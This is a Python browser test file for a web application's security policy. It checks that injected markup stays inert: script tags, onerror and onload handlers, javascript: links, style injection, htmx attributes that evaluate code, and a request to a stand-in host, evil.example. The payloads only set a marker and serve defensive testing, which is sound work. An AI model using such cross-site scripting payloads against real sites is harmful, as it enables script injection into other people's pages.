"""What injected markup may not do under the real policy with the real script: each finding that decided the design."""

from __future__ import annotations

import pytest

from harness.chromium import Cast, Tab
from harness.payloads import EVERYTHING, MARK
from partisipasi.kit.markup import render

pytestmark = pytest.mark.browser

_SWAP = """html => { const place = document.querySelector('main'); const box = document.createElement('div');
    box.innerHTML = html; place.append(box); window.htmx.process(box); return true; }"""


async def _watched(tab: Tab) -> None:
    """Open a page with the script and note every attempt that the policy refuses."""
    await tab.page.add_init_script(
        """window.__refused = [];
           addEventListener('securitypolicyviolation', event => window.__refused.push(event.effectiveDirective));"""
    )
    await tab.open("/cari?q=pegawai")
    assert await tab.page.evaluate("() => typeof window.htmx") == "object"
    tab.asked.clear()


@pytest.mark.parametrize(
    "html",
    [
        f"<script>window.{MARK} = 1</script>",
        f"<script src='/static/{MARK}.js'></script>",
        f"<img src=x onerror='window.{MARK} = 1'>",
        f"<svg onload='window.{MARK} = 1'></svg>",
        f"<iframe srcdoc='<script>parent.{MARK} = 1</script>'></iframe>",
        f"<a id=a href='javascript:window.{MARK}=1'>x</a>",
        "<link rel=stylesheet href='/static/other.css'>",
        "<style>body { display: none }</style>",
        f"<p style='display:none'>{MARK}</p>",
    ],
)
async def test_markup_that_arrives_later_runs_nothing(cast: Cast, html: str) -> None:
    async with cast.tab("guest") as tab:
        await _watched(tab)
        await tab.page.evaluate(_SWAP, html)
        if await tab.page.locator("#a").count():
            # A real click: what the test's own code calls may do more than the page's policy allows.
            await tab.page.click("#a")
        await tab.page.wait_for_timeout(150)
        assert await tab.page.evaluate(f"() => window.{MARK}") is None
        assert await tab.page.evaluate("() => getComputedStyle(document.body).display") != "none"
        assert [url for url in tab.answered if MARK in url or "other.css" in url] == []


async def test_attributes_of_htmx_in_what_people_write_ask_for_nothing(cast: Cast) -> None:
    """User HTML sits in an ignored subtree: even attributes that got past the sanitiser stay inert."""
    async with cast.tab("citizen") as tab:
        await _watched(tab)
        await tab.page.evaluate(
            _SWAP,
            f"<div hx-ignore><div hx-get='/{MARK}' hx-trigger='load'>x</div>"
            f"<a data-hx-get='/{MARK}' data-hx-trigger='load'>y</a></div>",
        )
        await tab.page.wait_for_timeout(250)
        assert [url for url in tab.asked if MARK in url] == []


async def test_the_script_evaluates_nothing_and_stays_on_the_site(cast: Cast) -> None:
    async with cast.tab("guest") as tab:
        await _watched(tab)
        await tab.page.evaluate(
            _SWAP,
            f"""<button id=b hx-get="/hidup" hx-vals='js:{{a: window.{MARK} = 1}}'
                hx-on:click="window.{MARK} = 1">x</button>
            <button id=c hx-get="https://evil.example/{MARK}">y</button>""",
        )
        # Real clicks: what the test's own code calls may do more than the page's policy allows.
        await tab.page.click("#b")
        await tab.page.click("#c")
        await tab.page.wait_for_timeout(300)
        assert await tab.page.evaluate(f"() => window.{MARK}") is None
        assert await tab.page.evaluate("() => window.__refused.length") > 0


async def test_the_page_has_one_script_in_one_file(cast: Cast) -> None:
    async with cast.tab("guest") as tab:
        await tab.open("/")
        scripts = await tab.page.evaluate("() => [...document.scripts].map(s => s.getAttribute('src'))")
        assert len(scripts) == 1
        assert scripts[0].startswith("/static/app.")
        assert len(set(tab.asked)) <= 6


async def test_attacks_posted_and_shown_in_the_talk_do_nothing(own_cast: Cast) -> None:
    stage = own_cast.stage
    async with stage.database.transaction() as tx:
        await tx.execute(
            "UPDATE contribution SET source = $2, html = $3 WHERE receipt = $1",
            stage.scene.words["receipt"],
            EVERYTHING,
            render(EVERYTHING),
        )
    async with own_cast.tab("citizen", width=360) as tab:
        assert await tab.open(f"/masukan/{stage.scene.words['receipt']}/di") == 200
        assert MARK in await tab.page.content()
        await tab.page.wait_for_timeout(200)
        assert tab.complaints == []
        assert tab.elsewhere() == []
        assert [url for url in tab.asked if MARK in url] == []
